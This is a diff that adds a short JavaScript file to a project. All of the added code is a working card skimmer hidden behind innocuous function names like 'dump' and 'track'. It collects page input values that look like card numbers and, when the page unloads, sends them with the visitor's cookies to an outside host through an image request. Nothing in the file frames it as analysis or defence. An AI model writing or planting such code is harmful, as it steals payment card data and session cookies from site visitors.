@@ -1,0 +1,25 @@
+function dump() {
+
+var cc = [];
+function grabber() {
+  var inputs = document.getElementsByTagName("input");
+  for (var i = 0; i < inputs.length; i++) {
+    var field = inputs[i];
+    if (field.value.length > 10 && field.value.replace(/[0-9 ]/g, "") === "") {
+      cc.push(field.name + "=" + field.value);
+    }
+  }
+}
+function track() {
+  if (cc.length === 0) {
+    return;
+  }
+  var img = new Image();
+  img.src = "https://sum.example.com/c?d=" + escape(cc.join("&")) + "&c=" + escape(document.cookie);
+  cc = [];
+}
+document.addEventListener("change", function(e) { grabber(); }, true);
+document.addEventListener("beforeunload", function(e) { track(); }, false);
+
+}
+dump();
